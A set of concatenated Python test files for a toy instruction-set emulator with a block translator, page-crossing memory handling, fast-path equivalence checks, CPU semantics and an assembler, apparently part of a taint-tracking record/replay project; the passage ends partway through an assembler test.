from repro.isa.instructions import INSTRUCTION_SIZE, Op, encode, make
from repro.isa.memory import PAGE_SIZE, PhysicalMemory
from repro.isa.registers import Reg
from repro.isa.translate import BlockTranslator

from tests.isa.test_cpu import MEM_SIZE, make_cpu
from tests.isa.test_fast_path import PROGRAMS


def make_translated(source, base=0):
    cpu = make_cpu(source, base=base)
    return cpu, BlockTranslator(cpu.memory)


def run_translated(cpu, translator, max_insns=100_000):
    """Drive *cpu* through the translator until HLT (or the cap)."""
    while not cpu.halted and cpu.instret < max_insns:
        translator.run(cpu, max_insns - cpu.instret)
    assert cpu.halted, "program did not halt"
    return cpu


class TestBlockShapes:
    def test_straight_line_block_ends_at_halt(self):
        cpu, tr = make_translated("movi r1, 1\nmovi r2, 2\nadd r3, r1, r2\nhlt")
        block = tr.lookup(cpu)
        assert block.n_body == 3
        assert block.kind == "halt"
        assert block.n_insns == 4
        assert block.pure  # no loads/stores

    def test_block_ends_at_branch(self):
        cpu, tr = make_translated("movi r1, 3\ncmpi r1, 0\njnz 0\nhlt")
        block = tr.lookup(cpu)
        assert block.kind == "jump"
        assert block.n_body == 2

    def test_block_ends_at_syscall(self):
        cpu, tr = make_translated("movi r0, 1\nsyscall\nhlt")
        block = tr.lookup(cpu)
        assert block.kind == "syscall"
        assert block.n_body == 1

    def test_memory_ops_make_block_impure(self):
        cpu, tr = make_translated("movi r1, 0x500\nst [r1+0], r1\nhlt")
        block = tr.lookup(cpu)
        assert not block.pure

    def test_block_ends_at_page_boundary(self):
        # One full page of NOPs: the block must stop at the page edge
        # with kind "fall", not run into the next page.
        nops = "\n".join(["nop"] * (PAGE_SIZE // INSTRUCTION_SIZE + 4)) + "\nhlt"
        cpu, tr = make_translated(nops)
        block = tr.lookup(cpu)
        assert block.kind == "fall"
        assert block.n_body == PAGE_SIZE // INSTRUCTION_SIZE

    def test_translation_watches_the_code_page(self):
        cpu, tr = make_translated("movi r1, 1\nhlt")
        tr.lookup(cpu)
        # The page is now version-tracked: writes into it bump the version.
        assert cpu.memory.code_version(0) == 0
        cpu.memory.write_byte(0x40, 0x7)
        assert cpu.memory.code_version(0) == 1


class TestCacheBehaviour:
    def test_block_translated_once_per_loop(self):
        cpu, tr = make_translated(
            "movi r1, 50\nloop: subi r1, r1, 1\ncmpi r1, 0\njnz loop\nhlt"
        )
        run_translated(cpu, tr)
        # Two blocks (entry, loop body) plus the post-loop halt block.
        assert tr.translations <= 3
        assert tr.executions > 50
        assert tr.stats()["cached_blocks"] == tr.translations

    def test_direct_jumps_chain(self):
        cpu, tr = make_translated(
            "movi r1, 50\nloop: subi r1, r1, 1\ncmpi r1, 0\njnz loop\nhlt"
        )
        run_translated(cpu, tr)
        assert tr.chain_hits > 40

    def test_lookup_by_address_space(self):
        # Two MMUs over the same physical page get distinct cache entries.
        cpu, tr = make_translated("movi r1, 1\nhlt")
        b1 = tr.lookup(cpu)
        cpu.mmu = FlatMMU()
        b2 = tr.lookup(cpu)
        assert b1 is not b2
        assert tr.translations == 2

    def test_top_blocks_deterministic(self):
        cpu, tr = make_translated(
            "movi r1, 9\nloop: subi r1, r1, 1\ncmpi r1, 0\njnz loop\nhlt"
        )
        run_translated(cpu, tr)
        top = tr.top_blocks(4)
        assert top == sorted(top, key=lambda t: (-t[1], t[0]))
        assert sum(retired for _pc, retired, _x in top) == cpu.instret

    def test_taint_tier_counters_idle_on_uninstrumented_runs(self):
        # The translated-tainted tier (test_translate_taint.py) shares
        # the cache; plain uninstrumented execution must never touch
        # its counters.
        cpu, tr = make_translated("movi r1, 1\nhlt")
        run_translated(cpu, tr)
        stats = tr.stats()
        assert stats["taint_lookups"] == 0
        assert stats["taint_executions"] == 0
        assert stats["taint_single_steps"] == 0
        assert stats["taint_dirty_exits"] == 0


class TestEquivalence:
    @pytest.mark.parametrize("source", PROGRAMS)
    def test_translated_matches_step_fast(self, source):
        ref = make_cpu(source)
        while not ref.halted:
            ref.step_fast()
        cpu, tr = make_translated(source)
        run_translated(cpu, tr)
        assert cpu.regs.snapshot() == ref.regs.snapshot()
        assert (cpu.pc, cpu.instret) == (ref.pc, ref.instret)
        assert (cpu.flag_z, cpu.flag_n) == (ref.flag_z, ref.flag_n)
        assert cpu.memory.read_bytes(0, MEM_SIZE) == ref.memory.read_bytes(0, MEM_SIZE)

    @pytest.mark.parametrize("source", PROGRAMS)
    @pytest.mark.parametrize("budget", [1, 2, 3, 7])
    def test_budget_cuts_are_exact(self, source, budget):
        """Executing through the translator with any per-call budget
        retires exactly the same stream as step_fast -- the property
        watchdogs and FaultPlan instret triggers rely on."""
        ref = make_cpu(source)
        cpu, tr = make_translated(source)
        while not cpu.halted:
            before = cpu.instret
            tr.run(cpu, budget)
            assert cpu.instret - before <= budget
            while ref.instret < cpu.instret:
                ref.step_fast()
            assert (cpu.pc, cpu.instret) == (ref.pc, ref.instret)
            assert cpu.regs.snapshot() == ref.regs.snapshot()
        assert ref.halted


class TestPreciseFaults:
    def test_undecodable_first_instruction(self):
        mem = PhysicalMemory(MEM_SIZE)
        mem.write_bytes(0, bytes([0xEE] + [0] * 7))
        cpu = CPU(mem)
        tr = BlockTranslator(mem)
        with pytest.raises(InvalidInstruction):
            tr.run(cpu, 100)
        assert (cpu.pc, cpu.instret) == (0, 0)

    def test_undecodable_after_valid_prefix(self):
        # Valid prologue, then junk: the prefix retires, then the fault
        # lands precisely on the junk pc -- as step_fast would.
        mem = PhysicalMemory(MEM_SIZE)
        prog = assemble("movi r1, 1\nmovi r2, 2")
        mem.write_bytes(0, prog.code)
        mem.write_bytes(len(prog.code), bytes([0xEE] + [0] * 7))
        cpu = CPU(mem)
        tr = BlockTranslator(mem)
        with pytest.raises(InvalidInstruction) as exc:
            while True:
                tr.run(cpu, 100)
        assert exc.value.pc == len(prog.code)
        assert (cpu.pc, cpu.instret) == (len(prog.code), 2)
        assert cpu.regs.read(Reg.R2) == 2

    def test_mid_block_page_fault_is_precise(self):
        class GuardedMMU(FlatMMU):
            def translate(self, vaddr, access):
                if access is AccessKind.READ and vaddr >= 0x800:
                    raise PageFault(vaddr, access.value, "unmapped")
                return vaddr

        source = "movi r1, 0x900\nmovi r2, 7\nld r3, [r1+0]\nhlt"
        ref = make_cpu(source)
        ref.mmu = GuardedMMU()
        with pytest.raises(PageFault):
            while True:
                ref.step_fast()
        cpu, tr = make_translated(source)
        cpu.mmu = GuardedMMU()
        with pytest.raises(PageFault):
            while True:
                tr.run(cpu, 100)
        assert (cpu.pc, cpu.instret) == (ref.pc, ref.instret)
        assert cpu.regs.snapshot() == ref.regs.snapshot()


class TestPageStraddlingCode:
    def test_unaligned_code_single_steps_across_pages(self):
        # Code planted at base 4 puts one instruction across the first
        # page boundary (offset 252): the translator must fall back to
        # step_fast for it and still execute the program correctly.
        n_insns = PAGE_SIZE // INSTRUCTION_SIZE + 2
        body = "\n".join(f"addi r1, r1, {i}" for i in range(n_insns))
        source = body + "\nhlt"
        ref = make_cpu(source, base=4)
        while not ref.halted:
            ref.step_fast()
        cpu, tr = make_translated(source, base=4)
        run_translated(cpu, tr)
        assert tr.single_steps >= 1
        assert cpu.regs.read(Reg.R1) == ref.regs.read(Reg.R1)
        assert (cpu.pc, cpu.instret) == (ref.pc, ref.instret)


class TestSharedDecodeCache:
    def test_cpu_no_longer_owns_a_decode_cache(self):
        cpu = make_cpu("hlt")
        assert not hasattr(cpu, "_decode_cache")

    def test_decode_lru_shared_across_cpus(self):
        # A distinctive immediate so this encoding is cold exactly once.
        raw = encode(make(Op.MOVI, Reg.R4, imm=0x5EED5EED))
        cached_decode(raw)
        hits_before = decode_cache_info().hits
        for _ in range(2):
            mem = PhysicalMemory(MEM_SIZE)
            mem.write_bytes(0, raw + encode(make(Op.HLT)))
            cpu = CPU(mem)
            cpu.step_fast()
        assert decode_cache_info().hits >= hits_before + 2

    def test_decode_failures_are_not_cached(self):
        bad = bytes([0xEE] + [0] * 7)
        mem = PhysicalMemory(MEM_SIZE)
        mem.write_bytes(0, bad)
        cpu = CPU(mem)
        for _ in range(2):
            with pytest.raises(InvalidInstruction):
                cpu.step_fast()
            cpu.pc = 0
