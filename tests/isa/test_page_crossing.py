"""Page-crossing memory accesses: both CPU paths and the taint engine.

Words and instruction fetches that straddle a 256-byte page boundary
take the slow per-byte path; these tests pin down that both execution
paths agree and that taint follows each byte to its own page.
"""

import pytest

from repro.emulator.machine import Machine, MachineConfig
from repro.guestos.addrspace import PERM_RW, AddressSpace
from repro.isa.assembler import assemble
from repro.isa.cpu import CPU, AccessKind
from repro.isa.memory import PAGE_SIZE, FrameAllocator, PhysicalMemory
from repro.isa.registers import Reg
from repro.taint.policy import TaintPolicy
from repro.taint.tags import Tag, TagType
from repro.taint.tracker import TaintTracker

from tests.conftest import register_asm

SEED = Tag(TagType.NETFLOW, 5)


def make_cpu_with_paging():
    """A CPU over an address space whose pages are deliberately
    non-contiguous physically, so page-crossing really matters."""
    memory = PhysicalMemory(64 * PAGE_SIZE)
    allocator = FrameAllocator(memory)
    aspace = AddressSpace(1, allocator)
    # Allocate a decoy frame between the two mapped pages so their
    # physical frames are NOT adjacent.
    aspace.map_region(0x1000, PAGE_SIZE, PERM_RW | 4, "page-a")
    allocator.alloc()  # hole
    aspace.map_region(0x1000 + PAGE_SIZE, PAGE_SIZE, PERM_RW | 4, "page-b")
    cpu = CPU(memory, mmu=aspace)
    return cpu, aspace


@pytest.mark.parametrize("step_name", ["step", "step_fast"])
class TestPageCrossingData:
    def test_word_store_and_load_across_boundary(self, step_name):
        cpu, aspace = make_cpu_with_paging()
        boundary = 0x1000 + PAGE_SIZE - 2  # word spans both pages
        prog = assemble(
            f"""
            movi r1, {boundary}
            movi r2, 0xcafebabe
            st [r1], r2
            ld r3, [r1]
            hlt
            """,
            base=0x1000,
        )
        # Write program into the mapped pages byte by byte.
        for i, byte in enumerate(prog.code):
            paddr = aspace.translate(0x1000 + i, AccessKind.READ)
            cpu.memory.write_byte(paddr, byte)
        cpu.pc = 0x1000
        step = getattr(cpu, step_name)
        while not cpu.halted:
            step()
        assert cpu.regs.read(Reg.R3) == 0xCAFEBABE
        # The two halves live in physically non-adjacent frames.
        pa = aspace.translate(boundary + 1, AccessKind.READ)
        pb = aspace.translate(boundary + 2, AccessKind.READ)
        assert abs(pb - pa) != 1


class TestPageCrossingTaint:
    def test_taint_follows_each_byte_to_its_page(self):
        """A tainted word stored across a boundary taints bytes in two
        different physical frames."""
        machine = Machine(MachineConfig())
        tracker = TaintTracker(policy=TaintPolicy(process_tags_on_access=False))
        machine.plugins.register(tracker)
        # dst placed so that dst+254 spans a page edge.
        prog = register_asm(
            machine,
            "t.exe",
            """
            start:
                movi r1, src
                ld r2, [r1]
                movi r1, dst
                st [r1+254], r2
            park:
                movi r1, 1000000
                movi r0, SYS_SLEEP
                syscall
                hlt
            src: .word 1
            dst: .space 512
            """,
        )
        proc = machine.kernel.spawn("t.exe")
        src = proc.aspace.translate_range(prog.label("src"), 4, AccessKind.READ)
        tracker.pipeline.taint(src, SEED)
        machine.run(200_000)
        written = proc.aspace.translate_range(
            prog.label("dst") + 254, 4, AccessKind.READ
        )
        pages = {p >> 8 for p in written}
        assert len(pages) >= 1  # may or may not straddle physically...
        for paddr in written:
            assert SEED in tracker.prov_at(paddr)

    def test_fetch_of_straddling_instruction(self):
        """An instruction whose 8 bytes straddle a page still executes
        and its taint is observed across both pages."""
        machine = Machine(MachineConfig())
        tracker = TaintTracker(policy=TaintPolicy())
        machine.plugins.register(tracker)
        # Force misalignment: pad with .byte so the next insn starts 4
        # bytes before a page boundary.
        pad = 256 - 4 - 8  # header insn (8) + pad -> next insn at off 252
        prog = register_asm(
            machine,
            "t.exe",
            f"""
            start:
                jmp cont
            .space {pad}
            cont:
                movi r7, 99
                movi r1, 0
                movi r0, SYS_EXIT
                syscall
            """,
        )
        proc = machine.kernel.spawn("t.exe")
        machine.run(100_000)
        assert proc.exit_code == 0
