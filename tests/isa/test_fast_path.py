"""Equivalence tests: the uninstrumented fast path vs. full stepping.

Record/replay correctness depends on both paths retiring *identical*
instruction streams -- a recording made on the fast path must replay
bit-for-bit under the instrumented path FAROS uses.
"""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.emulator.machine import Machine, MachineConfig
from repro.isa.cpu import CPU
from repro.isa.errors import InvalidInstruction, PageFault
from repro.isa.memory import PAGE_SIZE, PhysicalMemory
from repro.isa.registers import Reg

from tests.conftest import spawn_asm
from tests.isa.test_cpu import MEM_SIZE, make_cpu

PROGRAMS = [
    "movi r1, 42\nmov r2, r1\nhlt",
    "movi r1, 0x500\nmovi r2, 0xbeef\nst [r1+4], r2\nld r3, [r1+4]\nhlt",
    "movi r1, 0x500\nmovi r2, 0x1ff\nstb [r1], r2\nldb r3, [r1]\nhlt",
    "movi r1, 5\npush r1\npop r2\nhlt",
    "movi r1, 3\nloop: subi r1, r1, 1\ncmpi r1, 0\njnz loop\nhlt",
    "call fn\nhlt\nfn: movi r1, 9\nret",
    "movi r5, fn\ncallr r5\nhlt\nfn: movi r1, 7\nret",
    "movi r1, 0xffffffff\ncmpi r1, 1\njlt neg\nmovi r3, 0\nhlt\nneg: movi r3, 1\nhlt",
    "movi r1, 6\nmovi r2, 7\nmul r3, r1, r2\nnot r4, r3\nxori r5, r4, 0x55\nhlt",
]


def run_both(source):
    slow = make_cpu(source)
    fast = make_cpu(source)
    while not slow.halted:
        slow.step()
    while not fast.halted:
        fast.step_fast()
    return slow, fast


class TestPathEquivalence:
    @pytest.mark.parametrize("source", PROGRAMS)
    def test_architectural_state_identical(self, source):
        slow, fast = run_both(source)
        assert slow.regs.snapshot() == fast.regs.snapshot()
        assert slow.pc == fast.pc
        assert slow.instret == fast.instret
        assert (slow.flag_z, slow.flag_n) == (fast.flag_z, fast.flag_n)

    @pytest.mark.parametrize("source", PROGRAMS)
    def test_memory_identical(self, source):
        slow, fast = run_both(source)
        assert slow.memory.read_bytes(0, MEM_SIZE) == fast.memory.read_bytes(0, MEM_SIZE)

    @given(
        a=st.integers(0, 0xFFFFFFFF),
        b=st.integers(0, 0xFFFFFFFF),
        op=st.sampled_from(["add", "sub", "mul", "and", "or", "xor", "shl", "shr"]),
    )
    @settings(max_examples=40, deadline=None)
    def test_alu_property_equivalence(self, a, b, op):
        source = f"movi r1, {a}\nmovi r2, {b}\n{op} r3, r1, r2\nhlt"
        slow, fast = run_both(source)
        assert slow.regs.read(Reg.R3) == fast.regs.read(Reg.R3)

    def test_fast_path_raises_same_faults(self):
        mem = PhysicalMemory(MEM_SIZE)
        mem.write_bytes(0, bytes([0xEE] + [0] * 7))
        cpu = CPU(mem)
        with pytest.raises(InvalidInstruction):
            cpu.step_fast()

    def test_decode_cache_never_stale_for_modified_code(self):
        # Overwriting an instruction's bytes must change what executes:
        # the cache keys on content, not address.
        source = "movi r1, 1\nhlt"
        cpu = make_cpu(source)
        cpu.step_fast()
        assert cpu.regs.read(Reg.R1) == 1
        # Patch the first instruction to movi r1, 2 and re-run from 0.
        from repro.isa.assembler import assemble

        cpu.memory.write_bytes(0, assemble("movi r1, 2").code)
        cpu.pc = 0
        cpu.step_fast()
        assert cpu.regs.read(Reg.R1) == 2


class TestMachineFastPathSelection:
    def test_recording_run_matches_instrumented_run(self):
        """The whole point: fast (record) and instrumented (replay)
        executions retire identical instruction counts."""
        from repro.emulator.plugins import Plugin

        class Observer(Plugin):
            def __init__(self):
                super().__init__()
                self.count = 0

            def on_insn_exec(self, machine, thread, fx):
                self.count += 1

        def build(plugins):
            machine = Machine(MachineConfig())
            for p in plugins:
                machine.plugins.register(p)
            spawn_asm(
                machine,
                "w.exe",
                """
                start:
                    movi r5, 500
                loop:
                    muli r6, r6, 3
                    subi r5, r5, 1
                    cmpi r5, 0
                    jnz loop
                    movi r1, 0
                    movi r0, SYS_EXIT
                    syscall
                """,
            )
            machine.run(100_000)
            return machine

        fast = build([])
        observer = Observer()
        slow = build([observer])
        assert fast.now == slow.now
        assert observer.count > 0

    def test_plugin_without_insn_hook_gets_fast_path(self):
        from repro.emulator.plugins import Plugin

        class Passive(Plugin):
            pass

        machine = Machine(MachineConfig())
        machine.plugins.register(Passive())
        assert machine.plugins.needs_insn_effects() is False

    def test_faros_gates_instrumentation_on_taint(self):
        from repro.faros import Faros
        from repro.taint.tags import Tag, TagType

        machine = Machine(MachineConfig())
        faros = machine.plugins.register(Faros())
        # Dormant while the system holds no taint: the machine may run
        # its uninstrumented loop (the netflow-arrival optimisation).
        assert machine.plugins.needs_insn_effects() is False
        faros.tracker.pipeline.taint((0x100,), Tag(TagType.NETFLOW, 0))
        assert machine.plugins.needs_insn_effects() is True
