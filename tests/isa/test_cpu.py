"""Unit tests for the CPU core: semantics, flags, effects, and faults."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from repro.isa.assembler import assemble
from repro.isa.cpu import CPU, AccessKind
from repro.isa.errors import InvalidInstruction, PageFault
from repro.isa.instructions import INSTRUCTION_SIZE, Op
from repro.isa.memory import PAGE_SIZE, PhysicalMemory
from repro.isa.registers import Reg

MEM_SIZE = 16 * PAGE_SIZE


def run_asm(source, max_steps=10_000, setup=None):
    """Assemble *source* at 0, run until HLT, return the CPU."""
    cpu = make_cpu(source)
    if setup:
        setup(cpu)
    steps = 0
    while not cpu.halted:
        cpu.step()
        steps += 1
        if steps > max_steps:
            raise AssertionError("program did not halt")
    return cpu


def make_cpu(source, base=0):
    mem = PhysicalMemory(MEM_SIZE)
    prog = assemble(source, base=base)
    mem.write_bytes(base, prog.code)
    cpu = CPU(mem)
    cpu.pc = prog.entry
    cpu.regs.write(Reg.SP, MEM_SIZE)  # stack at top of memory
    return cpu


class TestDataMovement:
    def test_movi_mov(self):
        cpu = run_asm("movi r1, 99\nmov r2, r1\nhlt")
        assert cpu.regs.read(Reg.R2) == 99

    def test_ld_st_word(self):
        cpu = run_asm(
            "movi r1, 0x500\nmovi r2, 0xdeadbeef\nst [r1+4], r2\nld r3, [r1+4]\nhlt"
        )
        assert cpu.regs.read(Reg.R3) == 0xDEADBEEF
        assert cpu.memory.read_word(0x504) == 0xDEADBEEF

    def test_ldb_zero_extends(self):
        cpu = run_asm(
            "movi r1, 0x500\nmovi r2, 0x1ff\nstb [r1], r2\nldb r3, [r1]\nhlt"
        )
        assert cpu.regs.read(Reg.R3) == 0xFF

    def test_negative_displacement(self):
        cpu = run_asm(
            "movi r1, 0x508\nmovi r2, 7\nst [r1-8], r2\nld r3, [r1-8]\nhlt"
        )
        assert cpu.regs.read(Reg.R3) == 7
        assert cpu.memory.read_word(0x500) == 7

    def test_push_pop(self):
        cpu = run_asm("movi r1, 11\npush r1\nmovi r1, 0\npop r2\nhlt")
        assert cpu.regs.read(Reg.R2) == 11
        assert cpu.regs.read(Reg.SP) == MEM_SIZE

    def test_push_grows_down(self):
        cpu = run_asm("movi r1, 1\npush r1\nhlt")
        assert cpu.regs.read(Reg.SP) == MEM_SIZE - 4


class TestAlu:
    @pytest.mark.parametrize(
        "op,a,b,expected",
        [
            ("add", 2, 3, 5),
            ("sub", 3, 5, 0xFFFFFFFE),
            ("mul", 7, 6, 42),
            ("and", 0xF0, 0x3C, 0x30),
            ("or", 0xF0, 0x0F, 0xFF),
            ("xor", 0xFF, 0x0F, 0xF0),
            ("shl", 1, 4, 16),
            ("shr", 256, 4, 16),
        ],
    )
    def test_register_forms(self, op, a, b, expected):
        cpu = run_asm(f"movi r1, {a}\nmovi r2, {b}\n{op} r3, r1, r2\nhlt")
        assert cpu.regs.read(Reg.R3) == expected

    @pytest.mark.parametrize(
        "op,a,imm,expected",
        [
            ("addi", 2, 3, 5),
            ("subi", 10, 4, 6),
            ("muli", 5, 5, 25),
            ("andi", 0xFF, 0x0F, 0x0F),
            ("ori", 0x10, 0x01, 0x11),
            ("xori", 0b1010, 0b0110, 0b1100),
            ("shli", 3, 2, 12),
            ("shri", 12, 2, 3),
        ],
    )
    def test_immediate_forms(self, op, a, imm, expected):
        cpu = run_asm(f"movi r1, {a}\n{op} r2, r1, {imm}\nhlt")
        assert cpu.regs.read(Reg.R2) == expected

    def test_not(self):
        cpu = run_asm("movi r1, 0\nnot r2, r1\nhlt")
        assert cpu.regs.read(Reg.R2) == 0xFFFFFFFF

    def test_add_wraps_32_bits(self):
        cpu = run_asm("movi r1, 0xffffffff\naddi r2, r1, 1\nhlt")
        assert cpu.regs.read(Reg.R2) == 0

    def test_shift_amount_masked_to_5_bits(self):
        cpu = run_asm("movi r1, 1\nmovi r2, 33\nshl r3, r1, r2\nhlt")
        assert cpu.regs.read(Reg.R3) == 2

    @given(a=st.integers(0, 0xFFFFFFFF), b=st.integers(0, 0xFFFFFFFF))
    def test_xor_self_inverse_property(self, a, b):
        cpu = run_asm(
            f"movi r1, {a}\nmovi r2, {b}\nxor r3, r1, r2\nxor r4, r3, r2\nhlt"
        )
        assert cpu.regs.read(Reg.R4) == a


class TestControlFlow:
    def test_jmp(self):
        cpu = run_asm("jmp over\nmovi r1, 1\nover: hlt")
        assert cpu.regs.read(Reg.R1) == 0

    @pytest.mark.parametrize(
        "a,b,branch,taken",
        [
            (5, 5, "jz", True),
            (5, 6, "jz", False),
            (5, 6, "jnz", True),
            (1, 2, "jlt", True),
            (2, 1, "jlt", False),
            (2, 1, "jge", True),
            (1, 1, "jge", True),
            (1, 1, "jle", True),
            (2, 1, "jgt", True),
            (1, 1, "jgt", False),
        ],
    )
    def test_conditional_branches(self, a, b, branch, taken):
        cpu = run_asm(
            f"movi r1, {a}\nmovi r2, {b}\ncmp r1, r2\n{branch} yes\n"
            "movi r3, 0\nhlt\nyes: movi r3, 1\nhlt"
        )
        assert cpu.regs.read(Reg.R3) == (1 if taken else 0)

    def test_signed_comparison(self):
        # 0xffffffff is -1 signed, so -1 < 1
        cpu = run_asm(
            "movi r1, 0xffffffff\ncmpi r1, 1\njlt neg\nmovi r3, 0\nhlt\nneg: movi r3, 1\nhlt"
        )
        assert cpu.regs.read(Reg.R3) == 1

    def test_call_ret(self):
        cpu = run_asm(
            "call fn\nmovi r2, 2\nhlt\nfn: movi r1, 1\nret"
        )
        assert cpu.regs.read(Reg.R1) == 1
        assert cpu.regs.read(Reg.R2) == 2

    def test_callr_through_register(self):
        cpu = run_asm(
            "movi r5, fn\ncallr r5\nhlt\nfn: movi r1, 77\nret"
        )
        assert cpu.regs.read(Reg.R1) == 77

    def test_jmpr(self):
        cpu = run_asm("movi r5, out\njmpr r5\nmovi r1, 1\nout: hlt")
        assert cpu.regs.read(Reg.R1) == 0

    def test_loop_counts(self):
        cpu = run_asm(
            """
            movi r1, 0
            movi r2, 10
            loop:
                addi r1, r1, 1
                cmp r1, r2
                jnz loop
            hlt
            """
        )
        assert cpu.regs.read(Reg.R1) == 10


class TestEffectsTracing:
    def test_fetch_paddrs_cover_instruction_bytes(self):
        cpu = make_cpu("movi r1, 1\nhlt")
        fx = cpu.step()
        assert fx.fetch_paddrs == tuple(range(INSTRUCTION_SIZE))

    def test_load_effects(self):
        cpu = make_cpu("movi r1, 0x500\nld r2, [r1+4]\nhlt")
        cpu.memory.write_word(0x504, 123)
        cpu.step()
        fx = cpu.step()
        (read,) = fx.reads
        assert read.vaddr == 0x504
        assert read.paddrs == (0x504, 0x505, 0x506, 0x507)
        assert read.value == 123
        assert fx.reg_written is Reg.R2

    def test_store_effects(self):
        cpu = make_cpu("movi r1, 0x500\nmovi r2, 9\nstb [r1], r2\nhlt")
        cpu.step()
        cpu.step()
        fx = cpu.step()
        (write,) = fx.writes
        assert write.paddrs == (0x500,) and write.value == 9

    def test_branch_effects(self):
        cpu = make_cpu("cmpi r0, 0\njz 0x20\nhlt")
        fx = cpu.step()
        assert fx.flags_written
        fx = cpu.step()
        assert fx.flags_read and fx.branch_taken is True and fx.next_pc == 0x20

    def test_syscall_effect_advances_pc(self):
        cpu = make_cpu("syscall\nhlt")
        fx = cpu.step()
        assert fx.syscall and cpu.pc == INSTRUCTION_SIZE

    def test_instret_counts(self):
        cpu = run_asm("nop\nnop\nhlt")
        assert cpu.instret == 3


class TestFaults:
    def test_undefined_opcode_faults(self):
        mem = PhysicalMemory(MEM_SIZE)
        mem.write_bytes(0, bytes([0xEE] + [0] * 7))
        cpu = CPU(mem)
        with pytest.raises(InvalidInstruction):
            cpu.step()

    def test_page_fault_propagates(self):
        class DenyMMU:
            def translate(self, vaddr, access):
                if access is AccessKind.WRITE:
                    raise PageFault(vaddr, access.value, "write to read-only page")
                return vaddr

        mem = PhysicalMemory(MEM_SIZE)
        prog = assemble("movi r1, 0x500\nst [r1], r1\nhlt")
        mem.write_bytes(0, prog.code)
        cpu = CPU(mem, mmu=DenyMMU())
        cpu.step()
        with pytest.raises(PageFault):
            cpu.step()

    def test_context_roundtrip(self):
        cpu = make_cpu("movi r1, 5\ncmpi r1, 5\nhlt")
        cpu.step()
        cpu.step()
        ctx = cpu.context()
        other = make_cpu("hlt")
        other.restore_context(ctx)
        assert other.regs.read(Reg.R1) == 5
        assert other.flag_z is True
        assert other.pc == cpu.pc
