"""Unit tests for the two-pass assembler."""

import pytest

from repro.isa.assembler import AssemblerError, assemble
from repro.isa.instructions import INSTRUCTION_SIZE, Op, decode
from repro.isa.registers import Reg


def first(program):
    return decode(program.code)


class TestInstructions:
    def test_movi(self):
        insn = first(assemble("movi r1, 42"))
        assert insn.op is Op.MOVI and insn.rd is Reg.R1 and insn.imm == 42

    def test_hex_immediate(self):
        assert first(assemble("movi r0, 0xff")).imm == 0xFF

    def test_negative_immediate_wraps(self):
        assert first(assemble("addi sp, sp, -8")).imm == 0xFFFFFFF8

    def test_memory_operand_with_displacement(self):
        insn = first(assemble("ld r1, [r2+12]"))
        assert (insn.op, insn.rd, insn.rs1, insn.imm) == (Op.LD, Reg.R1, Reg.R2, 12)

    def test_memory_operand_without_displacement(self):
        assert first(assemble("ldb r1, [sp]")).imm == 0

    def test_memory_operand_negative_displacement(self):
        assert first(assemble("st [fp-4], r1")).imm == 0xFFFFFFFC

    def test_store_register_fields(self):
        insn = first(assemble("st [r6+4], r3"))
        assert (insn.rs1, insn.rs2) == (Reg.R6, Reg.R3)

    def test_three_operand_alu(self):
        insn = first(assemble("xor r1, r2, r3"))
        assert (insn.op, insn.rd, insn.rs1, insn.rs2) == (Op.XOR, Reg.R1, Reg.R2, Reg.R3)

    def test_case_insensitive(self):
        assert first(assemble("MOVI R1, 1")).op is Op.MOVI

    def test_zero_operand_ops(self):
        for text, op in [("nop", Op.NOP), ("hlt", Op.HLT), ("ret", Op.RET), ("syscall", Op.SYSCALL)]:
            assert first(assemble(text)).op is op


class TestLabelsAndSymbols:
    def test_forward_reference(self):
        prog = assemble("jmp end\nnop\nend: hlt")
        assert decode(prog.code).imm == 2 * INSTRUCTION_SIZE

    def test_backward_reference(self):
        prog = assemble("top: nop\njmp top")
        assert decode(prog.code, 8).imm == 0

    def test_base_offsets_labels(self):
        prog = assemble("nop\nhere: hlt", base=0x1000)
        assert prog.label("here") == 0x1000 + INSTRUCTION_SIZE

    def test_entry_defaults_to_base(self):
        assert assemble("nop", base=0x400).entry == 0x400

    def test_entry_honours_start_label(self):
        prog = assemble("nop\nstart: hlt", base=0x400)
        assert prog.entry == 0x400 + 8

    def test_equ_constant(self):
        prog = assemble(".equ ANSWER, 42\nmovi r0, ANSWER")
        assert first(prog).imm == 42

    def test_label_plus_offset(self):
        prog = assemble("movi r1, data+4\ndata: .word 1, 2")
        assert first(prog).imm == prog.label("data") + 4

    def test_duplicate_label_rejected(self):
        with pytest.raises(AssemblerError):
            assemble("a: nop\na: nop")

    def test_undefined_symbol_rejected(self):
        with pytest.raises(AssemblerError):
            assemble("jmp nowhere")

    def test_multiple_labels_one_line(self):
        prog = assemble("a: b: hlt")
        assert prog.label("a") == prog.label("b") == 0


class TestDataDirectives:
    def test_word_emits_little_endian(self):
        prog = assemble(".word 0x11223344")
        assert prog.code == b"\x44\x33\x22\x11"

    def test_word_list_and_label_pointer(self):
        prog = assemble("ptr: .word ptr, 7", base=0x100)
        assert prog.code[:4] == (0x100).to_bytes(4, "little")
        assert prog.code[4:8] == (7).to_bytes(4, "little")

    def test_byte_values(self):
        assert assemble(".byte 1, 2, 0xff").code == b"\x01\x02\xff"

    def test_byte_range_checked(self):
        with pytest.raises(AssemblerError):
            assemble(".byte 256")

    def test_ascii_and_asciz(self):
        assert assemble('.ascii "hi"').code == b"hi"
        assert assemble('.asciz "hi"').code == b"hi\x00"

    def test_ascii_escapes(self):
        assert assemble('.ascii "a\\n"').code == b"a\n"

    def test_space(self):
        assert assemble(".space 5").code == b"\x00" * 5

    def test_labels_account_for_data_sizes(self):
        prog = assemble('.ascii "abc"\nafter: hlt')
        assert prog.label("after") == 3


class TestErrorsAndComments:
    def test_comments_stripped(self):
        assert assemble("nop ; trailing\n; full line\n").code == assemble("nop").code

    def test_semicolon_inside_string_kept(self):
        assert assemble('.ascii "a;b"').code == b"a;b"

    def test_unknown_mnemonic(self):
        with pytest.raises(AssemblerError):
            assemble("frobnicate r1")

    def test_wrong_operand_count(self):
        with pytest.raises(AssemblerError):
            assemble("mov r1")

    def test_bad_register(self):
        with pytest.raises(AssemblerError):
            assemble("mov r9, r1")

    def test_bad_memory_operand(self):
        with pytest.raises(AssemblerError):
            assemble("ld r1, r2")

    def test_unknown_directive(self):
        with pytest.raises(AssemblerError):
            assemble(".bogus 1")

    def test_error_reports_line_number(self):
        with pytest.raises(AssemblerError) as excinfo:
            assemble("nop\nnop\nbadop")
        assert excinfo.value.lineno == 3


class TestWholePrograms:
    def test_countdown_program_assembles(self):
        prog = assemble(
            """
            start:
                movi r1, 3
            loop:
                subi r1, r1, 1
                cmpi r1, 0
                jnz loop
                hlt
            """
        )
